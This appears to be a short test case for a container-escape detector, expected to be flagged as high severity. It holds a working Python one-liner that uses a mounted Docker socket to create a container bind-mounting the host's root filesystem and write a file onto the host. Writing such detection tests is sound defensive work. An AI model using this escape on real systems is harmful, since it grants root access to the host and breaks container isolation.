# about: python asks the runtime, whose socket lies in a directory it was given, for a container with the host's root
# expect: container_escape high
# where: container
# needs: docker
container -v /run:/given -- python3 -c 'import socket,json
def ask(m,p,b=None):
    s=socket.socket(socket.AF_UNIX); s.connect("/given/docker.sock"); b=json.dumps(b).encode() if b else b""
    s.sendall(f"{m} {p} HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {len(b)}\r\n\r\n".encode()+b)
    d=b""
    while g:=s.recv(9999): d+=g
    return d
d=ask("POST","/containers/create",{"Image":"tools","Cmd":["sh","-c","echo x >/host/srv/made"],"HostConfig":{"Binds":["/:/host"],"NetworkMode":"none"}})
i=json.loads(d.split(b"\r\n\r\n",1)[1])["Id"]; ask("POST",f"/containers/{i}/start"); ask("POST",f"/containers/{i}/wait")'
test -e /srv/made
